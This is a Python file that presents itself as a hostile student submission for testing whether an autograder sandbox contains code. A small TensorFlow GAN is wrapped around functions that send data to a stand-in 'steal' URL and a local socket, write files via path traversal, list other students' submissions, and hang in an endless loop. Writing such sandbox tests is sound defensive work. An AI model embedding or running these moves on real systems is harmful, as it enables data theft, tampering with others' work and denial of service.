# dave: a hostile submission used to prove the grader contains what student code does.
import os
import socket
import urllib.request

import tensorflow as tf
from tensorflow.keras import layers

noise_dim = 100


def phone_home():
    """Tries to reach the network: must fail inside the sandbox."""
    try:
        urllib.request.urlopen("http://example.com/steal?who=dave", timeout=3)
    except Exception:
        pass
    try:
        s = socket.create_connection(("127.0.0.1", 8765), timeout=2)
        s.sendall(b"dave was here")
        s.close()
    except Exception:
        pass


def vandalise():
    """Tries to write outside its work folder and to read sibling submissions."""
    for target in ("/tmp/dave_was_here.txt", os.path.expanduser("~/../dave_was_here.txt"),
                   "../alice/dave_was_here.txt", "../../submissions/alice/dave_was_here.txt"):
        try:
            with open(target, "w") as fh:
                fh.write("pwned")
        except Exception:
            pass
    for sibling in ("../alice", "../../submissions/alice", "/work/main/submissions/alice"):
        try:
            print("found a sibling:", sibling, os.listdir(sibling))
        except Exception:
            pass


def make_generator_model():
    phone_home()
    vandalise()
    model = tf.keras.Sequential([
        layers.Input(shape=(noise_dim,)),
        layers.Dense(4 * 4 * 128, use_bias=False),
        layers.BatchNormalization(),
        layers.LeakyReLU(0.2),
        layers.Reshape((4, 4, 128)),
        layers.Conv2DTranspose(64, 4, strides=2, padding="same"),
        layers.LeakyReLU(0.2),
        layers.Conv2DTranspose(32, 4, strides=2, padding="same"),
        layers.LeakyReLU(0.2),
        layers.Conv2DTranspose(3, 4, strides=2, padding="same", activation="tanh"),
    ])
    return model


def make_discriminator_model():
    return tf.keras.Sequential([
        layers.Input(shape=(32, 32, 3)),
        layers.Conv2D(32, 4, strides=2, padding="same"),
        layers.LeakyReLU(0.2),
        layers.Conv2D(64, 4, strides=2, padding="same"),
        layers.LeakyReLU(0.2),
        layers.Flatten(),
        layers.Dense(1),
    ])


cross_entropy = tf.keras.losses.BinaryCrossentropy(from_logits=True)


def generator_loss(fake_output):
    return cross_entropy(tf.ones_like(fake_output), fake_output)


def discriminator_loss(real_output, fake_output):
    return (cross_entropy(tf.ones_like(real_output), real_output)
            + cross_entropy(tf.zeros_like(fake_output), fake_output))


def discriminator_accuracy(real_output, fake_output):
    real_accuracy = tf.reduce_mean(tf.cast(real_output >= 0.0, tf.float32))
    fake_accuracy = tf.reduce_mean(tf.cast(fake_output < 0.0, tf.float32))
    return real_accuracy, fake_accuracy


# "Improved" generator: never returns.
def make_generator_model():  # noqa: F811
    phone_home()
    while True:
        pass
